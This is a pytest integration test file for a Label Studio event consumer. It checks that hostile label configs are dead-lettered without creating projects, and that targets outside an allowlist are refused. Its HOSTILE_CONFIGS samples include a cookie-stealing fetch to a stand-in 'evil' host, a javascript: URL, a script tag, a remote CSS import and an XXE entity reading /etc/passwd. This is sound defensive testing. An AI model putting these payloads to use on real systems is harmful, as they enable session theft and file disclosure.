"""Events that try to do more than add a task: hostile label configs and targets outside the allowlist.

Each is a dead letter with its reason, nothing is created or written for it, and good events in the
same batches still arrive.
"""

from __future__ import annotations

import uuid

import pytest

from labelstudio_ingest.consumer import deadletter as dl
from labelstudio_ingest.consumer.labelconfig import default_config
from labelstudio_ingest.schemas import Target
from tests.consumer.runner import Rig, eventually, project_titled, prompt_event, read_topic, run_ids_of

pytestmark = pytest.mark.integration

BODY = '<Text name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/>'
HOSTILE_CONFIGS = {
    "handler": f'<View>{BODY}<Header value="Rate" onmouseover="fetch(`//evil/`+document.cookie)"/></View>',
    "js-url": f'<View>{BODY}<Image name="logo" value="javascript:alert(1)"/></View>',
    "hypertext-script": (
        f'<View>{BODY}<HyperText name="h" value="&lt;script&gt;alert(1)&lt;/script&gt;"/></View>'
    ),
    "hypertext-run-text": (
        '<View><HyperText name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/></View>'
    ),
    "css-import": f"<View><Style>@import url(https://evil.example/x.css);</Style>{BODY}</View>",
    "entities": '<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + f"<View>{BODY}</View>",
}


def _title(kind: str) -> str:
    return f"hostile-{kind}-{uuid.uuid4().hex[:8]}"[:50]


def _reasons(records: list[object]) -> dict[bytes, str | None]:
    return {r.key: dl.header(list(r.headers), dl.H_REASON) for r in records}  # type: ignore[attr-defined]


def test_hostile_label_configs_create_nothing(rig: Rig) -> None:
    targets = {
        kind: Target(project_name=_title(kind), project_config=xml) for kind, xml in HOSTILE_CONFIGS.items()
    }
    hostile = {kind: prompt_event(target=target) for kind, target in targets.items()}
    # The reference prompt config with its <Style> block is a config from an event too: it stays allowed.
    good_target = Target(project_name=_title("style"), project_config=default_config("prompt"))
    good = prompt_event(target=good_target)
    rig.publisher.events(rig.topic, [*hostile.values(), good])

    consumer = rig.consumer().start().wait_ready()
    try:
        project = eventually(lambda: project_titled(rig.ls_client, good_target.project_name or ""))
        eventually(lambda: run_ids_of(rig.ls_client, project.id) == [str(good.run_id)], message="good task")
        dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(hostile))
        assert _reasons(dead) == {str(e.run_id).encode(): "unsafe_label_config" for e in hostile.values()}
        messages = {dl.header(list(r.headers), dl.H_MESSAGE) or "" for r in dead}
        assert any("onmouseover" in m for m in messages)
        assert any("DTD" in m for m in messages)
        for target in targets.values():
            assert project_titled(rig.ls_client, target.project_name or "") is None
        assert consumer.metric("ingest_events_dead_lettered_total", reason="unsafe_label_config") == len(
            hostile
        )
        assert consumer.metric("ingest_projects_created_total") == 1
    finally:
        consumer.kill()


def test_label_studio_alone_would_accept_a_script_handler(rig: Rig) -> None:
    """Why the check is ours: Label Studio itself stores a config with an ``on*`` handler."""
    created = rig.ls_client.projects.create(
        title=_title("ls-accepts"), label_config=HOSTILE_CONFIGS["handler"]
    )
    try:
        assert "onmouseover" in (created.label_config or "")
    finally:
        rig.ls_client.projects.delete(id=created.id)


def test_allowlist_turns_other_targets_into_dead_letters(rig: Rig) -> None:
    listed = rig.ls_client.projects.create(title=_title("listed"), label_config=default_config("prompt"))
    unlisted = rig.ls_client.projects.create(title=_title("unlisted"), label_config=default_config("prompt"))
    allowed_name = f"allowed-{uuid.uuid4().hex[:8]}"
    events = {
        "by-listed-id": prompt_event(target=Target(project_id=listed.id)),
        "by-pattern": prompt_event(target=Target(project_name=allowed_name)),
        "by-unlisted-id": prompt_event(target=Target(project_id=unlisted.id)),
        "by-unlisted-title": prompt_event(target=Target(project_name=unlisted.title)),
        "by-new-title": prompt_event(target=Target(project_name=_title("not-allowed"))),
    }
    rig.publisher.events(rig.topic, events.values())
    consumer = rig.consumer(
        INGEST_ALLOWED_PROJECT_IDS=f" {listed.id} ,999999", INGEST_ALLOWED_PROJECT_NAMES="allowed-*"
    ).start()
    try:
        consumer.wait_ready()
        eventually(lambda: run_ids_of(rig.ls_client, listed.id) == [str(events["by-listed-id"].run_id)])
        created = eventually(lambda: project_titled(rig.ls_client, allowed_name), message="allowed title")
        eventually(lambda: run_ids_of(rig.ls_client, created.id) == [str(events["by-pattern"].run_id)])
        refused = ("by-unlisted-id", "by-unlisted-title", "by-new-title")
        dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(refused))
        assert _reasons(dead) == {str(events[k].run_id).encode(): "not_allowed" for k in refused}
        assert run_ids_of(rig.ls_client, unlisted.id) == []
        assert project_titled(rig.ls_client, events["by-new-title"].target.project_name or "") is None
    finally:
        consumer.kill()
        for project in (listed, unlisted):
            rig.ls_client.projects.delete(id=project.id)
